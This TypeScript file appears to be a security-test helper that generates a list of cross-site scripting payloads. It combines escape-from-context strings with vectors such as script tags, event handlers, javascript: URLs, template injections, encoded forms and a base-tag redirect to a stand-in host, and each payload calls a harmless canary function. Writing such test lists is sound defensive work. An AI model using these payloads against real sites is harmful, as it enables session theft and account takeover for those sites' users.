/**
 * Texts that run `xx()` where a page puts them unescaped into HTML, an attribute, a script, a style or an address. Each is at
 * most 80 characters, so that it fits every field of the product.
 */
export function xssPayloads(): string[] {
  const all = new Set<string>();
  for (const vector of vectors) {
    for (const breakOut of breakOuts) {
      const payload = `${breakOut}${vector}`;
      if ([...payload].length <= 80) all.add(payload);
    }
  }
  return [...all];
}

/** What ends the place in which a text stands. */
const breakOuts = ["", '">', "'>", "-->", "</title>", "</script>", "</style>", "</textarea>", '\\"'];

const vectors = [
  "<script>xx()</script>",
  "<SCRIPT>xx()</SCRIPT >",
  "<script/x>xx()</script>",
  "<script src=data:,xx()></script>",
  "<script type=module>xx()</script>",
  "<scr<script>ipt>xx()</script>",
  "<img src=x onerror=xx()>",
  "<IMG SRC=x OnErRoR=xx()>",
  "<img/src=x/onerror=xx()>",
  "<img src=x onerror=&#120;x()>",
  '<img src="x" onerror="xx()"',
  "<image src=x onerror=xx()>",
  "<svg onload=xx()>",
  "<svg/onload=xx()//",
  "<svg><script>xx()</script>",
  "<svg><animate onbegin=xx() attributeName=x dur=1s>",
  "<svg><a href=javascript:xx()><text y=9>x",
  "<body onload=xx()>",
  "<body onpageshow=xx()>",
  "<details open ontoggle=xx()>",
  "<input autofocus onfocus=xx()>",
  "<select autofocus onfocus=xx()>",
  "<video src=x onerror=xx()>",
  "<video><source onerror=xx()>",
  "<audio src onerror=xx()>",
  "<iframe src=javascript:parent.xx()>",
  "<iframe srcdoc='<script>parent.xx()</script>'>",
  "<object data=javascript:xx()>",
  "<embed src=javascript:xx()>",
  "<a href=javascript:xx()>x</a>",
  "<form action=javascript:xx()><button autofocus>",
  "<math href=javascript:xx()>x",
  "<base href=//evil-canary.example>",
  "<meta http-equiv=refresh content=0;url=javascript:xx()>",
  "<link rel=stylesheet href=data:,*{x:y} onload=xx()>",
  "<style onload=xx()></style>",
  "<style>@import'javascript:xx()';</style>",
  "<p style=animation-name:x onanimationstart=xx()>",
  "<marquee onstart=xx()>",
  "<xx onfocus=xx() tabindex=1 autofocus>",
  "<noscript><p title='</noscript><img src onerror=xx()>'>",
  "<template><script>xx()</script></template>",
  '" onfocus=xx() autofocus x="',
  "' onfocus=xx() autofocus x='",
  '" onmouseover="xx()',
  "javascript:xx()",
  "JaVaScRiPt:xx()",
  "data:text/html,<script>xx()</script>",
  `\${xx()}`,
  "{{constructor.constructor('xx()')()}}",
  "#{xx()}",
  "';xx();//",
  '";xx();//',
  "`;xx();//",
  "+xx()+",
  "(xx())",
  "\\u003cscript\\u003exx()\\u003c/script\\u003e",
  "&lt;script&gt;xx()&lt;/script&gt;",
  "%3Cscript%3Exx()%3C/script%3E",
  "＜script＞xx()＜/script＞",
  "<!--<script>xx()//--></script>",
  "self.__next_f.push([1,'0:I[1]'])</script><script>xx()</script>",
];
